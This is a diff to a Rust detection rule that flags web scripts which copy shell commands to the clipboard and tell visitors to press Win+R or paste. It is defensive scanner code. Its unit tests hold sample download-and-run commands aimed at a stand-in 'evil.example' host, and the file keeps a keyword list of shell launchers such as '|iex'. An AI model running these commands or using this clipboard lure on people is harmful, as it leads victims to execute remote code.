@@ -6,8 +6,9 @@ use crate::model::{Case, Confidence, Rule, Severity, Sink, StaticWords, Words};
 
 /// # What it finds
 ///
-/// A new script that puts text into the clipboard which a shell would run, or that writes to the clipboard in a page whose
-/// script tells people to press Win+R or to paste.
+/// A new script that puts text into the clipboard which a shell would run, or that writes to the clipboard and holds a whole
+/// command line and the keys by which people are to paste it. Where it tells them to press Win+R, or holds the name of a
+/// shell beside the keys, a person is asked.
 ///
 /// # Why it matters
 ///
@@ -22,7 +23,8 @@ use crate::model::{Case, Confidence, Rule, Severity, Sink, StaticWords, Words};
 ///
 /// # Known false alarms
 ///
-/// Buttons that copy a link, an address or a code sample hold no command of Windows' shells and are no finding.
+/// Buttons that copy a link, an address or a code sample hold no command of Windows' shells and are no finding. Editors and
+/// highlighters that know a shell's name and the keys of the clipboard are asked about.
 ///
 /// # References
 ///
@@ -70,23 +72,26 @@ const COMMANDS: [&str; 14] = [
     "|iex",
 ];
 
-/// What people are told to press.
-const KEYS: [&str; 8] =
-    ["win + r", "win+r", "windows + r", "windows+r", "ctrl + v", "ctrl+v", "windowsキー", "貼り付け"];
+/// What people are told to press, to run a command and to paste it.
+const RUN_KEYS: [&str; 5] = ["win + r", "win+r", "windows + r", "windows+r", "windowsキー"];
+const PASTE_KEYS: [&str; 3] = ["ctrl + v", "ctrl+v", "貼り付け"];
 
 fn judge(script: &NewScript) -> Option<Found> {
     if !script.report.sinks.contains(&Sink::Clipboard) {
         return None;
     }
     let copied = script.report.actions.iter().filter(|action| action.sink == Sink::Clipboard);
-    let command = copied.map(|action| action.target.as_str()).find(|text| names(text, &COMMANDS));
+    let command = copied.map(|action| action.target.as_str()).find(|text| names(text));
     let texts = script.words();
-    let told = texts.iter().any(|text| KEYS.iter().any(|key| text.contains(key)));
-    let anywhere = texts.iter().any(|text| names(text, &COMMANDS));
-    let (severity, confidence) = match (command, told, anywhere) {
-        (Some(_), ..) => (Severity::Critical, Confidence::Firm),
-        (None, true, true) => (Severity::Critical, Confidence::Firm),
-        _ => return None,
+    let told = |keys: &[&str]| texts.iter().any(|text| keys.iter().any(|key| text.contains(key)));
+    let (runs, pastes) = (told(&RUN_KEYS), told(&PASTE_KEYS));
+    let (severity, confidence) = match () {
+        () if command.is_some() => (Severity::Critical, Confidence::Firm),
+        () if (runs || pastes) && texts.iter().any(|text| holds_command_line(text)) => {
+            (Severity::Critical, Confidence::Firm)
+        }
+        () if runs || (pastes && texts.iter().any(|text| names(text))) => (Severity::Medium, Confidence::Tentative),
+        () => return None,
     };
     let words = Words::new(
         "a script puts a command into the visitor's clipboard",
@@ -99,7 +104,37 @@ fn judge(script: &NewScript) -> Option<Found> {
     })
 }
 
-fn names(text: &str, list: &[&str]) -> bool {
+fn names(text: &str) -> bool {
     let lower = text.to_ascii_lowercase();
-    list.iter().any(|word| lower.contains(word))
+    COMMANDS.iter().any(|word| lower.contains(word))
+}
+
+/// Whether a text in small letters holds more of a command line than the name of a program: an option, or an address.
+fn holds_command_line(text: &str) -> bool {
+    const NEAR: usize = 120;
+    COMMANDS.iter().any(|word| {
+        text.match_indices(word).any(|(at, _)| {
+            let rest = text.get(at + word.len()..).unwrap_or_default();
+            let rest = rest.get(..rest.floor_char_boundary(NEAR)).unwrap_or_default();
+            let rest = rest.split(['\'', '"', '`', '\n']).next().unwrap_or_default();
+            let after = rest.trim_start();
+            let option = after.len() < rest.len() && after.starts_with(['-', '/']);
+            option || word.ends_with("iex") || rest.contains("://")
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_command_line_is_more_than_the_name_of_a_program() {
+        for text in ["x='powershell -w hidden -c 1'", "mshta https://evil.example/a", "irm evil.example | iex"] {
+            assert!(holds_command_line(text), "{text}");
+        }
+        for text in ["['bash','powershell','sql']", "powershell: /^[a-z]/", "about powershell and more"] {
+            assert!(!holds_command_line(text), "{text}");
+        }
+    }
 }
